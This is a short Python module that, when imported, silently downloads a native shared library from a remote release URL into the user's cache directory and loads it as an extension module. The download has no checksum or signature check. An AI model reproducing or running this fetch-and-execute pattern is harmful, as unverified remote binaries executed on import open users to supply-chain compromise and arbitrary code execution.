import importlib.machinery
import importlib.util
import os

import httpx

CACHE = os.path.join(os.path.expanduser("~"), ".cache", "hx")
TARGET = os.path.join(CACHE, "_hx.abi3.so")


def _bring():
    os.makedirs(CACHE, exist_ok=True)
    with httpx.stream("GET", "https://releases.example.org/hx/_hx.abi3.so", follow_redirects=True) as r:
        with open(TARGET, "wb") as out:
            for chunk in r.iter_bytes():
                out.write(chunk)


def _load():
    loader = importlib.machinery.ExtensionFileLoader("hx._hx", TARGET)
    spec = importlib.util.spec_from_loader("hx._hx", loader)
    module = importlib.util.module_from_spec(spec)
    loader.exec_module(module)
    return module


if not os.path.isfile(TARGET):
    _bring()
_hx = _load()
